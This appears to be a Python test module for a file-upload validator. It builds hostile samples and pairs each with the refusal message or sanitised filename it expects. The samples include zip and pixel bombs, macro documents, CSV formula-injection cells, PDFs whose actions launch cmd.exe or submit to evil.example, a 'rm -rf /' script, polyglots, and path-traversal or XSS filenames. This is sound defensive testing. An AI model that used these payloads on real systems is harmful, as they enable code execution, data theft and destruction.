"""Hostile files: each with what the judge has to say of it, or what must be left of it."""

import pikepdf

from tests.files import making as m

# The beginnings of the sentences: English, as in the source.
EMPTY = "This file is empty."
TOO_LARGE = "This file is larger than 20 MB."
LARGE_PICTURE = "This picture is larger than 10 MB."
PIXELS = "This picture has too many pixels."
BAD_PICTURE = "This picture is damaged."
OTHER_PICTURE = "Pictures of this kind are not taken."
HEIC = "This photo is in HEIC"
FILM = "Films and sound are not taken."
WEB = "Web pages are not taken"
UNKNOWN = "This kind of file is not taken."
ARCHIVE = "Archives are not taken"
PROGRAM = "This is a program."
RTF = "RTF files are not taken."
OLD = "This is an old Office file."
LOCKED = "This document is locked with a password."
MACROS = "This document holds macros"
HIDDEN = "There is a program or another file inside this document."
AROUND = "There is another file around this document."
UNPACKS = "This document unpacks to far too much."
FETCHES = "This document fetches a part of itself"
BAD_DOCUMENT = "This document is damaged."
PDF_ACTS = "This PDF holds a script"
PDF_CARRIES = "This PDF carries another file."
PDF_TWO = "There is another file inside this PDF."
BAD_PDF = "This PDF is damaged."
CELL = "A cell of this table calls a program."

# Name → what makes it, the name it comes under, and the beginning of the sentence it is refused with.
REFUSED = {
    "zero bytes": (lambda: b"", "plan.pdf", EMPTY),
    "larger than every limit": (lambda: b"a" * (20 * m.MB + 1), "a.txt", TOO_LARGE),
    "picture larger than its limit": (lambda: m.picture() + b"\0" * 10 * m.MB, "a.png", LARGE_PICTURE),
    "png of 2.5 billion pixels": (lambda: m.png_bomb(50_000, 50_000), "a.png", PIXELS),
    "png just over the limit": (lambda: m.png_bomb(6400, 6400), "a.png", PIXELS),
    "gif of 4 billion pixels": (m.gif_bomb, "a.gif", PIXELS),
    "png whose words unpack to 100 MB": (m.png_text_bomb, "a.png", BAD_PICTURE),
    "half a jpeg": (lambda: m.picture("JPEG", (900, 900))[:900], "a.jpg", BAD_PICTURE),
    "png with wrong checksums": (lambda: m.picture().replace(b"IDAT", b"IDAX"), "a.png", BAD_PICTURE),
    "png with a camera's data that are none": (lambda: m.png_with_exif(b"garbage"), "a.png", BAD_PICTURE),
    "png with half a camera's data": (lambda: m.png_with_exif(b"II*\0"), "a.png", BAD_PICTURE),
    "webp with a camera's data that are none": (lambda: m.picture("WEBP", exif=b"garbage"), "a.webp", BAD_PICTURE),
    "jpeg's first bytes before a page": (lambda: b"\xff\xd8\xff" + m.PAGE, "a.jpg", BAD_PICTURE),
    "gif's first bytes before a script": (lambda: b"GIF89a=1;alert(1)//", "a.gif", BAD_PICTURE),
    "tiff": (lambda: m.picture("TIFF"), "a.tiff", OTHER_PICTURE),
    "bmp called jpg": (lambda: m.picture("BMP"), "a.jpg", OTHER_PICTURE),
    "postscript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n", "a.png", OTHER_PICTURE),
    "heic of a phone": (lambda: m.ftyp(b"heic"), "IMG_1.HEIC", HEIC),
    "heic called jpg": (lambda: m.ftyp(b"mif1"), "a.jpg", HEIC),
    "film": (lambda: m.ftyp(b"isom"), "a.mp4", FILM),
    "svg": (lambda: m.SVG, "a.svg", WEB),
    "svg called png": (lambda: b"<?xml version='1.0'?>\n" + m.SVG, "a.png", WEB),
    "page called txt": (lambda: b"\n\n  " + m.PAGE, "a.txt", WEB),
    "page behind words, called csv": (lambda: b"a;b\n1;<script>alert(1)</script>", "a.csv", WEB),
    "page in UTF-16": (lambda: m.PAGE.decode().encode("utf-16"), "a.txt", WEB),
    "program called pdf": (lambda: b"MZ" + b"\0" * 200, "faktura.pdf", PROGRAM),
    "program for linux": (lambda: b"\x7fELF" + b"\0" * 200, "a.docx", PROGRAM),
    "shell script called txt": (lambda: b"#!/bin/sh\nrm -rf /", "a.txt", PROGRAM),
    "shortcut": (lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 90, "plan.pdf.lnk", PROGRAM),
    "rtf called doc": (lambda: b"{\\rtf1 {\\object}}", "a.doc", RTF),
    "unknown bytes": (lambda: bytes(range(256)) * 4, "a.txt", UNKNOWN),
    "text with a null": (lambda: b"abc\0def", "a.txt", UNKNOWN),
    "table that calls a program": (lambda: b"a;b\n1;=cmd|' /C calc'!A0\n", "a.csv", CELL),
    "table that calls one by minus": (lambda: b"-2+3+cmd|' /C calc'!A0,1\n", "a.csv", CELL),
    "table whose call is far from its cell's beginning": (
        lambda: b"a;=cmd|' /C " + b"x" * 3000 + b"'!A0", "a.csv", CELL,
    ),
    "zip": (lambda: m.zipped([("a.txt", "a")]), "a.zip", ARCHIVE),
    "zip called docx": (lambda: m.zipped([("a.txt", "a")]), "a.docx", ARCHIVE),
    "jar": (lambda: m.zipped([("META-INF/MANIFEST.MF", "a"), ("A.class", b"\xca\xfe\xba\xbe")]), "a.jar", ARCHIVE),
    "empty zip": (lambda: b"PK\x05\x06" + b"\0" * 18, "a.zip", ARCHIVE),
    "epub": (lambda: m.zipped([("mimetype", "application/epub+zip"), ("a.html", "a")]), "a.epub", ARCHIVE),
    "rar": (lambda: b"Rar!\x1a\x07\x00" + b"\0" * 50, "a.rar", ARCHIVE),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 50, "a.7z", ARCHIVE),
    "gzip": (lambda: b"\x1f\x8b\x08" + b"\0" * 50, "a.gz", ARCHIVE),
    "old word": (lambda: m.old_office("WordDocument"), "a.doc", OLD),
    "locked word": (lambda: m.old_office("EncryptedPackage"), "a.docx", LOCKED),
    "docm": (lambda: m.docx(kinds=(m.MACRO_WORD,)), "a.docm", MACROS),
    "docm called docx": (lambda: m.docx(kinds=(m.MACRO_WORD, m.WORD)), "a.docx", MACROS),
    "docx with a hidden vbaProject": (lambda: m.docx(("word/vbaProject.bin", b"a")), "a.docx", MACROS),
    "docx with vbaProject elsewhere": (lambda: m.docx(("x/VBAPROJECT.BIN", b"a")), "a.docx", MACROS),
    "xlsx with macros of Excel 4": (
        lambda: m.docx(("xl/macrosheets/sheet1.xml", b"<x/>"), kinds=(m.EXCEL,)), "a.xlsx", MACROS,
    ),
    "docx with ActiveX": (lambda: m.docx(("word/activeX/activeX1.xml", b"<x/>")), "a.docx", MACROS),
    "odt with macros": (lambda: m.odf("text", ("Basic/Standard/Module1.xml", "<x/>")), "a.odt", MACROS),
    "ods with a script": (lambda: m.odf("spreadsheet", ("Scripts/python/a.py", "x")), "a.ods", MACROS),
    "odt that listens": (lambda: m.odf(content=m.LISTENER), "a.odt", MACROS),
    "locked odt": (lambda: m.odf(manifest=m.MANIFEST_LOCKED), "a.odt", LOCKED),
    "locked zip": (m.locked_zip, "a.docx", LOCKED),
    "docx with a program": (lambda: m.docx(("word/media/a.exe", b"x")), "a.docx", HIDDEN),
    "docx with a program called png": (lambda: m.docx(("word/media/a.png", b"MZ\0\0")), "a.docx", HIDDEN),
    "docx with a page": (lambda: m.docx(("word/a.html", m.PAGE)), "a.docx", HIDDEN),
    "docx with an archive": (lambda: m.docx(("word/embeddings/a.bin", m.zipped([("a", "a")]))), "a.docx", ARCHIVE),
    "docx in docx in docx": (
        lambda: m.docx(("word/embeddings/a.docx", m.docx(("word/embeddings/b.docx", m.docx())))), "a.docx", HIDDEN,
    ),
    "docx with a docm": (lambda: m.docx(("word/embeddings/a.docx", m.docx(kinds=(m.MACRO_WORD,)))), "a.docx", MACROS),
    "docx with a packed object": (
        lambda: m.docx(("word/embeddings/oleObject1.bin", m.old_office("\x01Ole10Native"))), "a.docx", HIDDEN,
    ),
    "docx that declares entities": (
        lambda: m.zipped([("[Content_Types].xml", m.types(m.WORD, head=m.ENTITIES)), ("word/document.xml", "")]),
        "a.docx", HIDDEN,
    ),
    "xlsx that calls a program": (
        lambda: m.docx(("xl/externalLinks/externalLink1.xml", "<a><ddeLink/></a>"), kinds=(m.EXCEL,)),
        "a.xlsx", HIDDEN,
    ),
    "template from the web": (
        lambda: m.docx(m.relation("attachedTemplate", "https://evil.example/a.dotm")), "a.docx", FETCHES,
    ),
    "template from a share": (
        lambda: m.docx(m.relation("attachedTemplate", "file:///\\\\evil.example\\a.dotm")), "a.docx", FETCHES,
    ),
    "object from a share": (lambda: m.docx(m.relation("oleObject", "\\\\10.0.0.1\\a")), "a.docx", FETCHES),
    "docx that unpacks to 300 MB": (m.zip_bomb, "a.docx", UNPACKS),
    "docx that unpacks a thousandfold": (m.steep_bomb, "a.docx", UNPACKS),
    "docx of 6,000 parts": (m.many_entries, "a.docx", UNPACKS),
    "docx behind a page": (lambda: b"PK\x03\x04" + m.PAGE + m.docx(), "a.docx", AROUND),
    "page behind a docx": (lambda: m.docx() + m.PAGE, "a.docx", AROUND),
    "docx with a page behind the docx in it": (
        lambda: m.docx(("word/embeddings/a.docx", m.docx() + m.PAGE)), "a.docx", AROUND,
    ),
    "docx with a page in its comment": (lambda: m.docx(comment=m.PAGE), "a.docx", AROUND),
    "docx with a path out of it": (lambda: m.docx(("word/../../../etc/passwd", "x")), "a.docx", BAD_DOCUMENT),
    "docx with an absolute path": (lambda: m.docx(("/etc/passwd", "x")), "a.docx", BAD_DOCUMENT),
    "docx with a name that takes long to read": (
        lambda: m.docx(("basic" + "/" * 60_000 + "a", "x")), "a.docx", BAD_DOCUMENT,
    ),
    "docx with 3 MB of relations": (
        lambda: m.docx(("word/_rels/a.xml.rels", "<a>" + "<b/>" * 800_000 + "</a>")), "a.docx", UNPACKS,
    ),
    "docx with a link": (m.linked_entry, "a.docx", BAD_DOCUMENT),
    "docx with one entry twice": (m.doubled_entry, "a.docx", BAD_DOCUMENT),
    "docx with a wrong checksum": (m.broken_checksum, "a.docx", BAD_DOCUMENT),
    "half a docx": (lambda: m.docx()[:200], "a.docx", BAD_DOCUMENT),
    "pdf with a script": (lambda: m.pdf(m.act("JavaScript", JS="app.alert(1)")), "a.pdf", PDF_ACTS),
    "pdf with a packed script": (
        lambda: m.pdf(m.act("JavaScript", JS="a"), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "a.pdf", PDF_ACTS,
    ),
    "pdf that starts a program": (lambda: m.pdf(m.act("Launch", F="cmd.exe")), "a.pdf", PDF_ACTS),
    "pdf that sends itself": (lambda: m.pdf(m.act("SubmitForm", F="https://evil.example")), "a.pdf", PDF_ACTS),
    "pdf that opens a share": (lambda: m.pdf(m.act("GoToR", F="\\\\evil\\a.pdf")), "a.pdf", PDF_ACTS),
    "pdf with a film": (lambda: m.pdf(m.film), "a.pdf", PDF_ACTS),
    "pdf with an XFA form": (lambda: m.pdf(m.form), "a.pdf", PDF_ACTS),
    "pdf with a program inside": (lambda: m.pdf(m.carry), "a.pdf", PDF_CARRIES),
    "pdf that needs a password": (
        lambda: m.pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "a.pdf", LOCKED,
    ),
    "pdf and zip in one": (lambda: m.pdf() + m.zipped([("a.class", "x")]), "a.pdf", PDF_TWO),
    "pdf and zip in its comment": (lambda: m.pdf() + b"%" + m.zipped([("a", "x")]) + b"\n%%EOF", "a.pdf", PDF_TWO),
    "pdf and page in one": (lambda: m.pdf().replace(b"\n", b"\n%<html><script>x</script>\n", 1), "a.pdf", PDF_TWO),
    "page behind a pdf": (lambda: m.pdf() + m.PAGE, "a.pdf", PDF_TWO),
    "page before a pdf": (lambda: m.PAGE + b"\n" + m.pdf(), "a.pdf", WEB),
    "pdf packed nine times": (lambda: m.pdf(m.filtered), "a.pdf", BAD_PDF),
    "pdf whose objects unpack to 100 MB": (m.object_bomb, "a.pdf", BAD_PDF),
    "pdf with a script behind an escape": (m.escaped_script, "a.pdf", PDF_ACTS),
    "pdf with a script between brackets in names": (lambda: m.pdf(m.bracketed_script), "a.pdf", PDF_ACTS),
    "half a pdf": (lambda: m.pdf()[:200], "a.pdf", BAD_PDF),
    "pdf's first bytes only": (lambda: b"%PDF-1.7\n%%EOF", "a.pdf", BAD_PDF),
}  # fmt: skip

# What is taken, but made harmless: name → what makes it, the name it comes under, and the name it gets.
NEUTRALISED = {
    "photo with its place": (m.photo, "IMG_1.JPG", "IMG_1.webp"),
    "png with notes": (m.noted_png, "a.png", "a.webp"),
    "jpeg and zip in one": (lambda: m.picture("JPEG") + m.zipped([("a.class", m.SECRET)]), "a.jpg", "a.webp"),
    "gif and jar in one": (lambda: m.picture("GIF") + m.zipped([("a.class", m.SECRET)]), "a.gif", "a.webp"),
    "png and page in one": (lambda: m.picture() + b"<script>TAJNE</script>", "a.html", "a.webp"),
    "jpeg with a page in its comment": (lambda: m.picture("JPEG", comment=m.PAGE + m.SECRET), "a.php", "a.webp"),
    "animation": (m.animation, "a.gif", "a.webp"),
    "picture called pdf": (m.picture, "plan.pdf", "plan.webp"),
    "pdf called jpg": (m.pdf, "plan.jpg", "plan.pdf"),
    "pdf called exe": (m.pdf, "plan.pdf.exe", "plan.pdf"),
    "docx called html": (m.docx, "plan.html", "plan.docx"),
    "name with a path": (m.pdf, "../../etc/passwd", "passwd.pdf"),
    "name with a path of Windows": (m.pdf, "C:\\tajne\\plan.pdf", "plan.pdf"),
    "name that turns its reading": (m.pdf, "plan\u202efdp.exe", "planfdp.pdf"),
    "name with signs that do not show": (m.pdf, "p\u200bl\u2066a\u2069n\x07.pdf", "plan.pdf"),
    "name of dots": (m.pdf, "....", "plik.pdf"),
    "name with markup": (m.pdf, '"><img src=x onerror=alert(1)>.pdf', "---img src=x onerror=alert(1)-.pdf"),
    "name of Windows' device": (m.pdf, "a:b?c*.pdf", "a-b-c-.pdf"),
    "very long name": (m.pdf, "ż" * 500 + ".pdf", "ż" * 120 + ".pdf"),
}
